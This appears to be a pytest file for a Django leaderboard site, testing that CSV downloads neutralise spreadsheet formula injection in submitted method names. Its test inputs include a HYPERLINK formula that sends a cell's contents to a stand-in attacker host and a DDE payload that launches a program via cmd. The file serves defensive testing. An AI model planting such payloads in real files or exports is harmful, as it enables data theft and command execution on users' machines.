"""Attack: a method name that a spreadsheet runs as a formula (issue 14, item 8)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

import lbclient
from leaderboard import services, tasks
from tests.leaderboard.conftest import results_upload

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


@pytest.mark.django_db
@pytest.mark.parametrize("name", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\tx", "\rx"])
def test_formula_cells_are_inert_in_the_csv_download(client, user, track, gt_data, name):
    submission = services.submission_create(user=user, track=track, upload=results_upload(gt_data), method_name=name)
    tasks.score_submission(submission.pk)
    body = client.get(reverse("track-download", args=[track.slug, "csv"])).content.decode()
    row = next(csv.DictReader(io.StringIO(body)))
    assert row["method"] == "'" + name
    api = client.get(reverse("api:track-leaderboard", args=[track.slug]), {"format": "csv"})
    assert api.content.decode() == body  # what lbclient --csv prints
    assert float(row[track.primary_metric]) >= 0  # numbers stay numbers
    assert client.get(reverse("track-download", args=[track.slug, "json"])).json()["rows"][0]["method"] == name


def test_the_clients_csv_is_the_sites_and_keeps_its_inert_cells():
    site_csv = 'rank,method,participant,AP,gain\r\n1,"\'=HYPERLINK(""x"")",\'@eve,0.5,-0.25\r\n'
    out = io.StringIO()
    lbclient.print_csv(site_csv, out, columns=["gain"])
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert (row["method"], row["participant"], row["gain"]) == ('\'=HYPERLINK("x")', "'@eve", "-0.25")
    assert "AP" not in row
